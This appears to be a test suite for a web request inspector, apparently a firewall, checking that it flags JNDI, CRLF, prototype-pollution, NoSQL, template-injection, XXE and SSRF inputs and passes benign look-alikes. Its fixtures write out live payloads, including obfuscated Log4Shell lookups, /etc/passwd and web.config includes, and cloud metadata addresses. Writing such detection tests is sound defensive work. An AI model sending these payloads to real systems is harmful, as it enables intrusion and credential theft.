import { describe, expect, it } from 'vitest';
import { createInspector } from '../../src/inspect.js';
import { normalizeLookups } from '../../src/checks/jndi.js';
import { internalHost, parseIpv4 } from '../../src/checks/ssrf.js';
import type { HttpRequest } from '../../src/request.js';

const inspector = createInspector({ detectors: [] });
const categories = (request: HttpRequest) =>
  inspector.inspect(request).findings.map((f) => f.category);
const query = (value: string) => ({
  method: 'GET',
  url: `/p?v=${encodeURIComponent(value)}`,
  headers: {},
});
const json = (body: string) => ({
  method: 'POST',
  url: '/',
  headers: { 'content-type': 'application/json' },
  body,
});

describe('built-in checks', () => {
  it('names scanners by their user agents and leaves browsers alone', () => {
    const ua = (agent: string) => ({ method: 'GET', url: '/', headers: { 'User-Agent': agent } });
    for (const agent of [
      'sqlmap/1.7.4#stable',
      'Nuclei - Open-source project',
      'Mozilla/5.0 (compatible; Nmap Scripting Engine)',
    ]) {
      expect(categories(ua(agent))).toEqual(['scanner']);
    }
    expect(categories(ua('Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0'))).toEqual([]);
  });

  it('finds JNDI lookups through nested obfuscation', () => {
    expect(normalizeLookups('${${lower:j}${upper:N}${::-d}${env:X:-i}:ldap://a}')).toBe(
      '${jNdi:ldap://a}',
    );
    expect(categories(query('${${::-j}ndi:rmi://x/a}'))).toEqual(['jndi']);
    expect(categories(query('${HOME}'))).toEqual([]);
  });

  it('finds CRLF injection with plain, double-encoded and unicode line breaks', () => {
    for (const path of ['/%0d%0aSet-Cookie:a=b', '/%250ASet-cookie:a=b', '/%e5%98%8dLocation:x']) {
      expect(categories({ method: 'GET', url: path, headers: {} })).toEqual(['crlf']);
    }
    expect(categories(json('{"text":"Dear team,\\nNote: see below"}'))).toEqual([]);
  });

  it('finds mail protocol commands after a line break, not lines of prose', () => {
    for (const value of [
      'x\r\nHELO attacker.example',
      'note\nRETR 1',
      'Hi\r\na1 SELECT INBOX\r\na2 FETCH 1 BODY[]',
      '\r\nDATA\r\n.\r\n',
      'Re: hi\r\nz9 LOGIN admin secret',
    ]) {
      expect(categories(query(value)), value).toEqual(['crlf']);
      expect(categories(json(JSON.stringify({ subject: value }))), value).toEqual(['crlf']);
    }
    for (const text of [
      'Shopping:\nA1 list of things\nQuit smoking',
      'Dear team,\nData is attached.\nThanks',
      'Step 1\nB2 Fetch the ladder',
      'Line one\nUSER MANUAL for the printer, second edition',
      'Meeting notes:\nQUIT smoking campaign\nDATA review at 3pm',
      'Intro\r\nDATA\r\nThe numbers below…',
      'Contents\nUSER GUIDE\nRETR chapter',
      '件名\r\n本文です',
    ]) {
      expect(categories(json(JSON.stringify({ message: text }))), text).toEqual([]);
    }
  });

  it('finds prototype-pollution keys in JSON and parameter names', () => {
    expect(categories(json('{"__proto__":{"isAdmin":true}}'))).toEqual(['prototype-pollution']);
    expect(categories(json('{"constructor":{"prototype":{"x":1}}}'))).toEqual([
      'prototype-pollution',
    ]);
    expect(categories({ method: 'GET', url: '/?a[__proto__][x]=1', headers: {} })).toEqual([
      'prototype-pollution',
    ]);
    expect(categories(json('{"constructor":"Ada"}'))).toEqual([]);
  });

  it('finds NoSQL operators in JSON keys, bracketed names and operator objects', () => {
    expect(categories(json('{"user":"a","pass":{"$ne":null}}'))).toEqual(['nosqli']);
    expect(categories({ method: 'GET', url: '/?pass[$ne]=1', headers: {} })).toEqual(['nosqli']);
    expect(categories(query("true, $where: '1 == 1'"))).toEqual(['nosqli']);
    expect(categories(query('costs $in total $5'))).toEqual([]);
  });

  it('finds FreeMarker and Velocity directives, not hashtags and preprocessor lines', () => {
    for (const payload of [
      '<#list 1..3 as i>${i}</#list>',
      '<#include "/etc/passwd">',
      '#set($a = 6*7)$a',
      '#set( $x = $y.getClass() )',
      '#evaluate("#set($z=1)")',
      '#{parse}("x.vm")',
      '#foreach($i in [1..9])$i#end',
    ]) {
      expect(categories(query(payload)), payload).toEqual(['ssti']);
    }
    for (const text of [
      '#set (music) playlist',
      '#if(DEBUG) log #endif',
      '#include <stdio.h>',
      '#listen to this',
      'C# set($5 price)',
      '<#> markup',
    ]) {
      expect(categories(query(text)), text).toEqual([]);
    }
  });

  it('finds an external entity declared outside a DOCTYPE, not an internal one', () => {
    expect(categories(query('<!ENTITY % remote SYSTEM "http://x.example/e.dtd">'))).toEqual([
      'xxe',
    ]);
    expect(categories(query('<!ENTITY copy "&#169;">'))).toEqual([]);
  });

  it('finds server-side include directives, not comments that start with #', () => {
    for (const payload of [
      '<!--#include file="../../web.config"-->',
      '<!--#echo var="REMOTE_ADDR" -->',
      '<!--#config timefmt="%D"-->',
      'hi <!--#printenv -->',
      '<!--#INCLUDE virtual="/cgi-bin/x.cgi"-->',
    ]) {
      expect(categories(query(payload)), payload).toEqual(['ssti']);
      expect(categories(json(JSON.stringify({ bio: payload }))), payload).toEqual(['ssti']);
    }
    for (const text of [
      '<!-- #main navigation -->',
      '<!--#-->',
      '<!--#anchor-->',
      'x <!--# TODO -->',
    ]) {
      expect(categories(json(JSON.stringify({ bio: text }))), text).toEqual([]);
    }
  });

  it('finds template expressions that compute, not plain placeholders', () => {
    for (const payload of [
      '{{7*7}}',
      '${7*7}',
      '<%= 7*7 %>',
      '#{16*8787}',
      '<#assign ex="x"?new()>',
    ]) {
      expect(categories(query(payload))).toEqual(['ssti']);
    }
    expect(categories(query('Hello {{name}}'))).toEqual([]);
    expect(
      createInspector({ detectors: [], paranoia: 3 }).inspect(query('Hello {{name}}')).action,
    ).toBe('block');
  });

  it('reads IPv4 addresses as inet_aton does', () => {
    expect(parseIpv4('2130706433')).toBe(0x7f000001);
    expect(parseIpv4('0x7f000001')).toBe(0x7f000001);
    expect(parseIpv4('0177.0.0.1')).toBe(0x7f000001);
    expect(parseIpv4('127.1')).toBe(0x7f000001);
    expect(parseIpv4('256.1.1.1')).toBeUndefined();
    expect(parseIpv4('example')).toBeUndefined();
  });

  it('finds URLs to internal and metadata addresses in every form', () => {
    for (const host of [
      '127.0.0.1',
      '2130706433',
      '0x7f000001',
      '0177.0.0.1',
      '127.1',
      '[::1]',
      '[::ffff:127.0.0.1]',
      '169.254.169.254',
      '[fd00:ec2::254]',
      '10.1.2.3',
      'localhost',
      'metadata.google.internal',
    ]) {
      expect(internalHost(host), host).toBeDefined();
      expect(categories(query(`http://user@${host}:8080/x`)), host).toEqual(['ssrf']);
    }
    expect(categories(query('https://example.org/callback'))).toEqual([]);
    expect(categories(query('gopher://example.org:25/_HELO'))).toEqual(['ssrf']);
    expect(
      categories({ method: 'GET', url: '/', headers: { referer: 'http://localhost:3000/' } }),
    ).toEqual([]);
  });

  it('reads custom headers as parameters, not those that name the client', () => {
    const header = (name: string, value: string) => ({
      method: 'GET',
      url: '/',
      headers: { [name]: value },
    });
    expect(categories(header('X-Callback-Url', 'http://169.254.169.254/latest/'))).toEqual([
      'ssrf',
    ]);
    expect(categories(header('X-Original-URL', 'http://[::1]/admin'))).toEqual(['ssrf']);
    expect(categories(header('Origin', 'http://127.0.0.1:8080'))).toEqual([]);
    expect(categories(header('X-Forwarded-Proto', 'http://10.0.0.2'))).toEqual([]);
    expect(categories(header('X-Docs', 'https://example.org/api'))).toEqual([]);
  });

  it('finds external entities and DTDs, not plain DOCTYPEs', () => {
    const xml = (body: string) => ({
      method: 'POST',
      url: '/',
      headers: { 'content-type': 'application/xml' },
      body,
    });
    expect(
      categories(xml('<!DOCTYPE x [<!ENTITY % y PUBLIC "a" "http://e/e.dtd">%y;]><x/>')),
    ).toEqual(['xxe']);
    expect(categories(xml('<!DOCTYPE x SYSTEM "//x/x"><x>a</x>'))).toEqual(['xxe']);
    expect(categories(xml('<!DOCTYPE html><html><p>hi</p></html>'))).toEqual([]);
  });
});
